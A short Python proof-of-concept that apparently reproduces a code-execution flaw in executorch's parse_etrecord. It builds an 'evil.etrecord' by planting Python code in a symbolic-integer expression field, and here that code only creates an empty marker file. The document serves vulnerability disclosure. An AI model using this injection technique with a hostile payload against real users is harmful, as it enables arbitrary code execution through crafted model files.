"""Shows that reading an ETRecord runs code from it: ``python reproduce.py GOOD.etrecord``.

Needs executorch and torch. The file that it makes only creates an empty file beside itself.
"""

from __future__ import annotations

import json
import sys
import zipfile
from pathlib import Path

PROGRAM = "edge_dialect_exported_program/forward"


def write_evil(good: Path, evil: Path, mark: Path) -> None:
    """Copy an ETRecord, with one symbolic integer whose expression is Python code."""
    with zipfile.ZipFile(good) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    document = json.loads(entries[PROGRAM])
    code = f"__import__('pathlib').Path({str(mark)!r}).touch()"
    values = document["graph_module"]["graph"]["sym_int_values"]
    values["evil"] = {"as_expr": {"expr_str": code, "hint": None}}
    entries[PROGRAM] = json.dumps(document).encode()
    with zipfile.ZipFile(evil, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)


def main() -> int:
    good = Path(sys.argv[1]).resolve()
    evil, mark = Path("evil.etrecord").resolve(), Path("code-was-run").resolve()
    mark.unlink(missing_ok=True)
    write_evil(good, evil, mark)
    from executorch.devtools import parse_etrecord

    try:
        parse_etrecord(str(evil))
    except Exception as error:
        print(f"parse_etrecord raised {type(error).__name__}: {error}"[:200])
    print(f"code from the file was run: {mark.exists()}")
    return int(mark.exists())


if __name__ == "__main__":
    sys.exit(main())
